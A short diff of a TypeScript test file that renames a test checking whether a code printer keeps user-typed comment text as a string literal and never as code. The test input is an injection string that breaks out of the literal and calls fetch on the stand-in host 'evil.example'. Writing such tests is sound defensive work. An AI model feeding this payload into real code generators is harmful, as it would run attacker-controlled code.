@@ -44,7 +44,7 @@ describe("the code of an action", () => {
     expect(first && second && printCode(first, "")).not.toBe(first && second && printCode(second, ""));
   });
 
-  test("keeps a text a text, whatever a person has typed", () => {
+  test("prints what a person has typed as a text, and never as code", () => {
     const comment = '"}); await fetch("https://evil.example"); ({ x: "\\';
     const action: Action = { kind: "change-mobile", path: mobile, changes: { modificationComment: comment } };
     const [, literal = ""] = /modificationComment: (".*"),\n/.exec(printCode(action, "")) ?? [];
